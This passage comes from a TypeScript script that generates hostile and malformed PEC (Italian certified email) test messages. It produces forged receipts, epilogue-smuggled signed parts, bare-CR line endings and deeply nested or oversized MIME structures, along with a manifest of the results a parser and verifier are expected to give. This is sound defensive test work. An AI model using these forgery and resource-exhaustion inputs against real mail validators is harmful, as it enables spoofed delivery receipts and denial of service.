      reports('accettazione', [], ['SIGNATURE_CANONICALIZED'], true),
    );
    add(
      'line-endings-cr-only.eml',
      'line-endings',
      'Bare CR line endings everywhere (old Mac style): no LF, so no header/body split.',
      text.replace(/\r\n/g, '\r'),
      reports('non-pec', ['MIME_DEFECT', 'NOT_PEC']),
    );
    const lfSignedAlteredCr = text.replace('stato gestito.\r\n', 'stato gestito.\r\r\n');
    add(
      'line-endings-extra-cr-in-signed.eml',
      'line-endings',
      'A stray CR added before a CRLF in the signed text: no canonical form matches.',
      lfSignedAlteredCr,
      reports('accettazione', [], ['SIGNATURE_DIGEST_MISMATCH']),
    );
  }

  {
    // RFC 2046 ignores the epilogue, and so do OpenSSL and pec-kit; but a second multipart/signed
    // there, with the same boundary, makes a forward and a backward reading disagree.
    const forged = await syntheticPec({
      kind: 'avvenuta-consegna',
      signer: await forgerSigner(),
      withChain: false,
    });
    add(
      'epilogue-second-signed-same-boundary.eml',
      'structure',
      'A forger-signed multipart/signed appended after the close delimiter, reusing the boundary.',
      cat(A.bytes, forged.bytes),
      reports('accettazione', ['MIME_EXTRA_PARTS']),
    );
  }
  {
    // 23 nested multipart/signed around 256 KB of text: each level searched its subtree again for
    // nested PEC messages (depth^4 re-reads; 13 s for 1.3 MB before the fix, now linear).
    let chain = `Content-Type: text/plain\r\n\r\n${'riga di testo\r\n'.repeat((256 * 1024) / 15)}`;
    for (let i = 22; i >= 0; i--) {
      const b = `n${i}`;
      chain =
        `Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary="${b}"\r\n\r\n` +
        `--${b}\r\n${chain}\r\n--${b}\r\nContent-Type: application/pkcs7-signature\r\n\r\nAAAA\r\n--${b}--\r\n`;
    }
    add(
      'nested-signed-chain-23.eml',
      'limits',
      '23 nested multipart/signed (not PEC) around 256 KB: the nested-PEC search must not re-read subtrees.',
      `From: a@example.it\r\n${chain}`,
      reports('non-pec', ['NOT_PEC'], ['SIGNATURE_UNREADABLE']),
    );
  }

  {
    // 11 unsigned messages with PEC headers, each the original (message/rfc822) of the previous:
    // each level must not search its content for nested PEC twice.
    let m = `Content-Type: text/plain\r\n\r\n${'riga di testo\r\n'.repeat((256 * 1024) / 15)}`;
    for (let i = 0; i < 11; i++)
      m = `X-Trasporto: posta-certificata\r\nContent-Type: multipart/mixed; boundary="u${i}"\r\n\r\n--u${i}\r\nContent-Type: message/rfc822\r\n\r\n${m}\r\n--u${i}--\r\n`;
    add(
      'nested-unsigned-pec-chain-11.eml',
      'limits',
      '11 unsigned PEC-looking messages, each the original of the previous, around 256 KB: past the nested-PEC search depth (4), so no layer is shown as PEC.',
      m,
      reports('non-pec', ['PEC_NOT_SIGNED', 'PEC_NESTING_LIMIT']),
    );
  }

  // ---- size and shape limits (defaults) ----
  {
    const depth = 2000;
    let deep = '';
    for (let i = 0; i < depth; i++)
      deep += `Content-Type: multipart/mixed; boundary="d${i}"\r\n\r\n--d${i}\r\n`;
    deep += 'Content-Type: text/plain\r\n\r\nfondo\r\n';
    add(
      'nesting-depth-2000.eml',
      'limits',
      '2,000 nested multipart/mixed (each opened, none closed): far deeper than maxMimeDepth (24).',
      `From: a@example.it\r\n${deep}`,
      throws('LIMIT_EXCEEDED'),
    );
    let rfc822 = 'Content-Type: text/plain\r\n\r\nfondo\r\n';
    for (let i = 0; i < 30; i++) rfc822 = `Content-Type: message/rfc822\r\n\r\n${rfc822}`;
    add(
      'nesting-rfc822-30.eml',
      'limits',
      '30 nested message/rfc822 entities.',
      `From: a@example.it\r\n${rfc822}`,
      throws('LIMIT_EXCEEDED'),
    );
    let signedDeep = 'Content-Type: text/plain\r\n\r\nfondo\r\n';
    for (let i = 0; i < 30; i++)
      signedDeep = `Content-Type: multipart/mixed; boundary="n${i}"\r\n\r\n--n${i}\r\n${signedDeep}\r\n--n${i}--\r\n`;
    const entity = enc(signedDeep);
    const der = await signEntity(entity);
    add(
      'nesting-depth-30-in-signed-part.eml',
      'limits',
      'A validly signed part nested 30 multiparts deep.',
      assemble({ fields: fieldsA, boundary: 'nest-outer', parts: [entity, signaturePart(b64(der))] }),
      throws('LIMIT_EXCEEDED'),
    );
    const parts = Array.from(
      { length: 5000 },
      (_, i) => `--p\r\nContent-Type: text/plain\r\n\r\n${i}\r\n`,
    ).join('');
    add(
      'parts-5000.eml',
      'limits',
      'A multipart/mixed with 5,000 parts: more than maxParts (2,000).',
      `From: a@example.it\r\nContent-Type: multipart/mixed; boundary="p"\r\n\r\n${parts}--p--\r\n`,
      throws('LIMIT_EXCEEDED'),
    );
    add(
      'parts-5000-multipart-signed.eml',
      'limits',
      'A multipart/signed with 5,000 parts.',
      assemble({
        fields: fieldsA,
        boundary: A.outerBoundary,
        parts: [A.signed, ...new Array(4998).fill('x'), sigA],
      }),
      throws('LIMIT_EXCEEDED'),
    );
    add(
      'header-line-2mb.eml',
      'limits',
      'A single 2 MiB header line: more than maxHeaderBytes (256 KiB).',
      cat(`X-Long: ${'a'.repeat(2 * 1024 * 1024)}\r\n`, A.bytes),
      throws('LIMIT_EXCEEDED'),
    );
    add(
      'header-line-300k-in-signature-part.eml',
      'limits',
      'A 300 KiB header line in the header block of the signature part.',
      assemble({
        fields: fieldsA,
        boundary: A.outerBoundary,
        parts: [A.signed, `X-Long: ${'a'.repeat(300 * 1024)}\r\n${sigA}`],
      }),
      throws('LIMIT_EXCEEDED'),
    );
  }

  // ---- wrapping ----
  {
    const forged = DATICERT.replace('tipo="accettazione"', 'tipo="avvenuta-consegna"');
    const bytes = latin1(
      writeEntity({
        kind: 'multipart',
        subtype: 'mixed',
        boundary: 'wrap-1',
        headers: [
          ['From', 'lista@example.it'],
          ['X-Ricevuta', 'avvenuta-consegna'],
          ['Subject', 'CONSEGNA: Fattura 12/2025'],
          ['MIME-Version', '1.0'],
        ],
        parts: [
          { kind: 'binary', contentType: 'application/xml', body: enc(forged), filename: 'daticert.xml' },
          { kind: 'message', message: E.bytes, filename: 'postacert.eml' },
        ],
      }),
    );
    add(
      'wrapped-pec-forged-daticert.eml',
      'wrapping',
      'Unsigned mail with PEC headers and a forged daticert.xml next to a real signed PEC message (message/rfc822): a wrapper, not PEC.',
      bytes,
      reports('non-pec', ['PEC_NOT_SIGNED', 'WRAPPED_PEC', 'DATICERT_OUTSIDE_SIGNATURE'], ['NESTED_VERDICT']),
    );
  }

  // ---- write ----
  mkdirSync(OUT, { recursive: true });
  for (const f of readdirSync(OUT)) rmSync(resolve(OUT, f));
  for (const c of cases) writeFileSync(resolve(OUT, c.file), c.bytes);
  writeFileSync(resolve(OUT, 'trust-root.pem'), pkiPem('root.cert.pem'));
  const manifest = {
    description:
      'Hostile and broken PEC messages, generated by scripts/make-malformed.ts from synthetic messages signed with the test PKI. ' +
      'parse: what parsePec does (throws a PecError code, or returns kind with at least these issue codes); ' +
      'verify: what verifyPec reports with trust-root.pem as the only anchor (valid, and at least these issue codes). ' +
      'Every file must be handled in bounded time, and nothing but PecError may be thrown.',
    generator: 'scripts/make-malformed.ts',
    trust: 'trust-root.pem',
    files: cases.map((c) => ({
      file: c.file,
      category: c.category,
      description: c.description,
      bytes: c.bytes.length,
      ...c.expect,
    })),
  };
  writeFileSync(resolve(OUT, 'manifest.json'), `${JSON.stringify(manifest, null, 2)}\n`);
  console.log(`wrote ${cases.length} files to ${OUT}`);
}

function pemDer(pem: string): ArrayBuffer {
  const b = atob(pem.replace(/-----[^-]+-----|\s/g, ''));
  return Uint8Array.from(b, (c) => c.charCodeAt(0)).buffer;
}

await main();
